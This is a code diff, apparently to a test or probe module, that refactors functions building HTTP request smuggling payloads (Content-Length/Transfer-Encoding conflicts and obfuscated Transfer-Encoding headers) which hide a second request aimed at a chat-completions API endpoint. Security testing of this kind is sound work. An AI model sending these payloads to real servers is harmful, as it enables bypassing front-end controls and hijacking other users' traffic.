@@ -422,21 +422,22 @@ def head(host: str, key: str, *lines: str, target="/v1/chat/completions") -> byt
     return ("\r\n".join(fields) + "\r\n\r\n").encode()
 
 
+def hidden_after_chunks(host, key, *framing: str) -> bytes:
+    """A chunked body that ends at once, then a second request hidden behind
+    it; ``framing`` are the header lines, ``{length}`` the length of it all."""
+    body = b"0\r\n\r\n" + smuggled(host, key)
+    return head(host, key, *(line.format(length=len(body)) for line in framing)) + body
+
+
 def cl_and_te(host, key):
-    hidden = smuggled(host, key)
-    body = b"0\r\n\r\n" + hidden
-    return (
-        head(host, key, f"Content-Length: {len(body)}", "Transfer-Encoding: chunked")
-        + body
+    return hidden_after_chunks(
+        host, key, "Content-Length: {length}", "Transfer-Encoding: chunked"
     )
 
 
 def te_and_cl(host, key):
-    hidden = smuggled(host, key)
-    body = b"0\r\n\r\n" + hidden
-    return (
-        head(host, key, "Transfer-Encoding: chunked", f"Content-Length: {len(body)}")
-        + body
+    return hidden_after_chunks(
+        host, key, "Transfer-Encoding: chunked", "Content-Length: {length}"
     )
 
 
@@ -451,21 +452,14 @@ def two_lengths(host, key):
 
 
 def te_not_last(host, key):
-    hidden = smuggled(host, key)
-    body = b"0\r\n\r\n" + hidden
-    return (
-        head(host, key, "Transfer-Encoding: chunked, identity",
-             f"Content-Length: {len(body)}")
-        + body
-    )  # fmt: skip
+    return hidden_after_chunks(
+        host, key, "Transfer-Encoding: chunked, identity", "Content-Length: {length}"
+    )
 
 
 def te_space_before_colon(host, key):
-    hidden = smuggled(host, key)
-    body = b"0\r\n\r\n" + hidden
-    return (
-        head(host, key, "Transfer-Encoding : chunked", f"Content-Length: {len(body)}")
-        + body
+    return hidden_after_chunks(
+        host, key, "Transfer-Encoding : chunked", "Content-Length: {length}"
     )
 
 
